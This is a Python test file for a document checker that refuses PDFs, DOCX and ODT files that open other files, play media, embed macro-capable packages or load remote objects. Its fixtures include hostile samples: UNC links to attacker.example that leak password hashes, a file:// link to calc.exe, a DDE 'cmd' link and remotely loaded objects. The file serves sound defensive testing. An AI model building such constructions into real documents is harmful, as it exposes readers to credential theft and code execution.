"""PDF links and media that open other files, and documents or spreadsheets embedded in a DOCX or ODT.

A report links to its own pages and to websites; it never needs to open another file (which a
network path turns into a leak of the reader's Windows password hash, CVE-2018-4993), play sound or
video, or carry another document that can hold macros. The one embedded workbook Word writes for
itself, the data behind a chart, is accepted when it is plain data.
"""

import io
import zipfile

import pytest

from cspr.core.files import FileRefused
from cspr.documents.checks import check
from tests.documents import files

REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def annotated(annotation: bytes) -> bytes:
    return files.pdf_with_annotation(annotation)


def link(action: bytes) -> bytes:
    return annotated(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>")


OUTBOUND_PDFS = {
    "link opens a PDF on a network share": (
        lambda: link(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "a link or action that opens another file",
    ),
    "#-escaped GoToR on the catalog's open action": (
        lambda: files.hand_built_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo#52 /F (other.pdf) /D [0 /Fit] >> >>",
            files.PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ),
        "a link or action that opens another file",
    ),
    "web link whose address is a file on this computer": (
        lambda: link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
        "a link or action that opens another file",
    ),
    "web link whose address is a network share": (
        lambda: link(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share) >>"),
        "a link or action that opens another file",
    ),
    "screen annotation": (
        lambda: annotated(b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"),
        "sound, video or 3D content",
    ),
    "movie annotation": (
        lambda: annotated(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (clip.mov) >> >>"),
        "sound, video or 3D content",
    ),
    "sound annotation": (
        lambda: annotated(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>"),
        "sound, video or 3D content",
    ),
    "3D annotation": (
        lambda: annotated(b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
        "sound, video or 3D content",
    ),
    "link plays a rendition": (lambda: link(b"<< /S /Rendition /OP 0 >>"), "sound, video or 3D content"),
    "link plays a movie": (lambda: link(b"<< /S /Movie /T (clip) >>"), "sound, video or 3D content"),
    "link plays a sound": (lambda: link(b"<< /S /Sound /Sound 5 0 R >>"), "sound, video or 3D content"),
}


@pytest.mark.parametrize(("make", "message"), OUTBOUND_PDFS.values(), ids=OUTBOUND_PDFS.keys())
def test_a_pdf_that_opens_another_file_or_plays_media_is_refused(make, message):
    with pytest.raises(FileRefused, match=f"the PDF contains {message}.*print it to a new PDF"):
        check(make())


def test_a_pdf_with_links_to_websites_email_and_its_own_pages_and_hidden_notes_is_accepted():
    data = files.hand_built_pdf(
        files.CATALOG,
        files.PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 5 0 R 6 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.uk/) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /A << /S /URI /URI (mailto:panel@example.org) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [19 19 29 29] /A << /S /Hide /T (note) /H false >> >>",
    )
    assert check(data).pages == 1


# --- DOCX: embedded packages and chart data -------------------------------------------------------


def docx_with_package(name: str, data: bytes, rels: bytes | None = None) -> bytes:
    parts = {name: data}
    if rels is not None:
        parts["word/_rels/document.xml.rels"] = files.relationships(rels)
    return files.docx_with(parts)


MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
EMBEDDED_PACKAGES = {
    "embedded workbook object": (
        lambda: docx_with_package(
            "word/embeddings/Microsoft_Excel_Worksheet1.xlsx",
            files.workbook(),
            b'<Relationship Id="rId9" Type="' + REL + b'package" Target="embeddings/Microsoft_Excel_Worksheet1.xlsx"/>',
        ),
        "document or spreadsheet embedded in it",
    ),
    "embedded macro-enabled workbook": (
        lambda: docx_with_package(
            "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm",
            files.workbook({"xl/vbaProject.bin": MACROS}),
        ),
        "document or spreadsheet embedded in it",
    ),
    "embedded macro-enabled Word document": (
        lambda: docx_with_package("word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm", files.docx()),
        "document or spreadsheet embedded in it",
    ),
    "embedded workbook kept outside word/embeddings": (
        lambda: docx_with_package(
            "word/media/image9.png",
            files.workbook(),
            b'<Relationship Id="rId9" Type="' + REL + b'package" Target="media/image9.png"/>',
        ),
        "document or spreadsheet embedded in it",
    ),
    "a chart's workbook also placed in the text as an object": (
        lambda: files.docx_with(
            {
                "word/charts/chart1.xml": b"<c:chartSpace/>",
                "word/charts/_rels/chart1.xml.rels": files.relationships(
                    b'<Relationship Id="rId1" Type="' + REL + b'package" Target="../embeddings/W.xlsx"/>'
                ),
                "word/embeddings/W.xlsx": files.workbook(),
                "word/_rels/document.xml.rels": files.relationships(
                    b'<Relationship Id="rId9" Type="' + REL + b'package" Target="embeddings/W.xlsx"/>'
                ),
            }
        ),
        "document or spreadsheet embedded in it",
    ),
    "vbaProject.bin outside word/": (
        lambda: docx_with_package("customXml/vbaProject.bin", MACROS),
        "contains macros",
    ),
    "chart data with macros": (
        lambda: files.docx_with_chart(files.workbook({"xl/vbaProject.bin": MACROS})),
        "data behind a chart in the Word document contains macros",
    ),
    "chart data with a link to another workbook (or a DDE command)": (
        lambda: files.docx_with_chart(
            files.workbook(
                {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
            )
        ),
        "data behind a chart in the Word document contains links to other files or programs",
    ),
    "chart data with a data connection": (
        lambda: files.docx_with_chart(files.workbook({"xl/connections.xml": b"<connections/>"})),
        "data behind a chart in the Word document contains links to other files or programs",
    ),
    "chart data with an OLE object": (
        lambda: files.docx_with_chart(files.workbook({"xl/embeddings/oleObject1.bin": MACROS})),
        "data behind a chart in the Word document contains embedded objects",
    ),
    "chart data that is a macro-enabled workbook": (
        lambda: files.docx_with_chart(
            files.workbook(
                {
                    "[Content_Types].xml": files.CONTENT_TYPES.replace(
                        b"</Types>",
                        b'<Override PartName="/xl/workbook.xml" ContentType="application/'
                        b'vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                    )
                }
            )
        ),
        "data behind a chart in the Word document contains macros",
    ),
}


@pytest.mark.parametrize(("make", "message"), EMBEDDED_PACKAGES.values(), ids=EMBEDDED_PACKAGES.keys())
def test_a_docx_with_an_embedded_package_or_unsafe_chart_data_is_refused(make, message):
    with pytest.raises(FileRefused, match=message):
        check(make())


def test_a_docx_with_a_chart_whose_data_is_plain_is_accepted():
    assert check(files.docx_with_chart(files.workbook())).file_format == "docx"


def test_a_docx_repacked_with_folder_entries_is_accepted():
    source = zipfile.ZipFile(io.BytesIO(files.docx_with_chart(files.workbook())))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for folder in ("word/", "word/embeddings/", "word/charts/"):
            archive.writestr(folder, b"")
        for info in source.infolist():
            archive.writestr(info, source.read(info))
    assert check(out.getvalue()).file_format == "docx"


# --- ODT: embedded objects ------------------------------------------------------------------------

CHART_OBJECT = {
    "Object 1/content.xml": b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
    "Object 1/styles.xml": b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
}
DRAW_OBJECT = b'<draw:frame><draw:object xlink:href="%s" xlink:type="simple"/></draw:frame></office:text>'


def odt_with_object(href: bytes, parts: dict[str, bytes] | None = None) -> bytes:
    return files.odt_with(parts or {}, content_edit=(b"</office:text>", DRAW_OBJECT % href))


EMBEDDED_ODT = {
    "Basic macros inside an embedded object": (
        lambda: odt_with_object(b"./Object 1", {**CHART_OBJECT, "Object 1/Basic/Standard/Module1.xml": b"<m/>"}),
        "contains macros",
    ),
    "scripts inside an embedded object": (
        lambda: odt_with_object(b"./Object 1", {**CHART_OBJECT, "Object 1/Scripts/python/run.py": b"import os"}),
        "contains macros",
    ),
    "an embedded zip package": (
        lambda: odt_with_object(b"./Object 1", {"Object 1": files.workbook()}),
        "document or spreadsheet embedded in it",
    ),
    "an object loaded from a network share": (
        lambda: odt_with_object(b"file://attacker.example/share/sheet.ods"),
        "loads an object or other content from another location",
    ),
    "an object loaded from a website": (
        lambda: odt_with_object(b"https://attacker.example/sheet.ods"),
        "loads an object or other content from another location",
    ),
    "a section loaded from another file": (
        lambda: files.odt_with(
            {},
            content_edit=(
                b"</office:text>",
                b'<text:section text:name="S"><text:section-source xlink:href="../../other.odt"/></text:section>'
                b"</office:text>",
            ),
        ),
        "loads an object or other content from another location",
    ),
}


@pytest.mark.parametrize(("make", "message"), EMBEDDED_ODT.values(), ids=EMBEDDED_ODT.keys())
def test_an_odt_whose_embedded_objects_carry_code_or_come_from_elsewhere_is_refused(make, message):
    with pytest.raises(FileRefused, match=message):
        check(make())


def test_an_odt_with_an_embedded_chart_is_accepted():
    assert check(odt_with_object(b"./Object 1", CHART_OBJECT)).file_format == "odt"
